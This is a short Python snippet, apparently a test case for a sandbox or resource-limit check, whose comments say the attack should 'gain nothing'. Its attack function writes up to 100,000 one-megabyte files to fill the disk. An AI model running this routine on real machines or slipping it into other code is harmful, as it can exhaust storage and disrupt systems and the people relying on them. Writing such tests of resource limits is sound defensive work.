# tries: writes files until the disk is full
# must: gain nothing
# may: lose kept
# at: free

def attack(*arguments, **options):
    import os
    for number in range(100_000):
        with open(f"f{number}", "wb") as file:
            file.write(bytes(1 << 20))
    return 0.0
